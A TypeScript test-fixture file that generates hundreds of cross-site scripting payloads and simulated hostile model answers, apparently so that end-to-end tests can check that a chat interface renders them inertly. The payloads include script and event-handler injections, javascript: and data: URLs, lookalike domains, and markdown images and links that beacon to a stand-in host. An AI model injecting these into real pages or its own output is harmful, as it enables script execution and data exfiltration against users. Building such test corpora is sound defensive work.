// Five hundred texts that would be markup if anything took them for it: twenty deeds in twenty-five wrappings.

/** What a script would do. Each is noticed: by a mark on the window, a dialog, or a request that leaves our origin. */
const DEEDS: readonly string[] = [
  'window.__pwned=1',
  'top.__pwned=1',
  'parent.__pwned=1',
  'self["__pw"+"ned"]=1',
  'alert(1)',
  'confirm(1)',
  'prompt(1)',
  'print()',
  'fetch("//canary.example/f")',
  'navigator.sendBeacon("//canary.example/b")',
  'new Image().src="//canary.example/i"',
  'import("//canary.example/m.js")',
  'open("//canary.example/o")',
  'location="//canary.example/l"',
  'new WebSocket("wss://canary.example")',
  'document.write("<img src=//canary.example/w>")',
  'document.title="pwned"',
  'eval(atob("d2luZG93Ll9fcHduZWQ9MQ=="))',
  'setTimeout("window.__pwned=1")',
  'Function("window.__pwned=1")()',
];

/** `%` is the deed. */
const WRAPPINGS: readonly string[] = [
  '<script>%</script>',
  '</script><script>%</script>',
  '<ScRiPt >%</sCrIpT>',
  '<script src=//canary.example/s.js>%</script>',
  "<img src=x onerror='%'>",
  "<img src=//canary.example/p.png onload='%'>",
  "<svg onload='%'>",
  "<svg><animate onbegin='%' attributeName=x dur=1s>",
  '<svg><script>%</script></svg>',
  "<body onload='%'>",
  "<iframe src='javascript:%'></iframe>",
  "<iframe srcdoc='<script>%</script>'></iframe>",
  "<a href='javascript:%'>tap</a>",
  "<details open ontoggle='%'>x</details>",
  "<input autofocus onfocus='%'>",
  "<video><source onerror='%'></video>",
  "<object data='javascript:%'></object>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror='%'>",
  "<noscript><p title='</noscript><img src=x onerror=%>'>",
  "<style>@import '//canary.example/c.css'</style><b onclick='%'>x</b>",
  "'\"><img src=x onerror='%'>",
  '[tap](javascript:%)',
  '![see](//canary.example/m.png "%")',
  '{{constructor.constructor("%")()}}${%}',
  '&lt;img src=x onerror=%&gt;<!--><img src=x onerror=%>-->',
];

export const PAYLOADS: readonly string[] = WRAPPINGS.flatMap((wrapping) =>
  DEEDS.map((deed) => wrapping.replaceAll('%', () => deed)),
);

/**
 * One in five, every wrapping with four deeds and every deed in five wrappings, for views that draw so much that all of
 * them take minutes; with E2E_ALL, as `make hostile` sets it, all.
 */
export const SOME_PAYLOADS: readonly string[] = process.env.E2E_ALL
  ? PAYLOADS
  : PAYLOADS.filter((_, n) => (n + Math.floor(n / DEEDS.length)) % 5 === 0);

/** Where a hostile answer of a model leads. */
const TARGETS: readonly string[] = [
  'https://canary.example/',
  '//canary.example/q',
  'http://canary.example:80/',
  'https://user:word@canary.example/',
  'https://xn--cnary-uqa.example/',
  'https://c\u0430nary.example/',
  'https://canary\u200b.example/',
  'javascript:window.__pwned=1',
  'java\nscript:window.__pwned=1',
  'JAVASCRIPT:alert(1)',
  'data:text/html,<script>top.__pwned=1</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'blob:https://canary.example/x',
  '\\\\canary.example\\x',
];

/** `%` is the target. */
const ANSWERS: readonly string[] = [
  '![see](%)',
  '![see][r]\n\n[r]: %',
  '[tap](%)',
  '[tap](<%> "title")',
  '[tap][r]\n\n[r]: %',
  '<%>',
  'See % for more.',
  '**[tap](%)**',
  '[![see](%)](%)',
  '`code` [tap](%) *and* ![see](%)',
  '- [tap](%)\n- ![see](%)',
  '# [tap](%)\n\n> ![see](%)',
  '```html\n<img src="%">\n```',
  '<img src="%" onerror="window.__pwned=1">',
  '<a href="%" ping="%">tap</a>',
  '<iframe src="%"></iframe>',
  '<script src="%"></script>',
  '<link rel="stylesheet" href="%"><style>@import "%"</style>',
  '<svg><image href="%"/><use href="%"/></svg>',
  '<form action="%"><button autofocus>tap</button></form><meta http-equiv="refresh" content="0;url=%">',
];

/** Three hundred answers of a model that has been turned against us. */
export const OUTPUTS: readonly string[] = ANSWERS.flatMap((answer) =>
  TARGETS.map((target) => answer.replaceAll('%', () => target)),
);
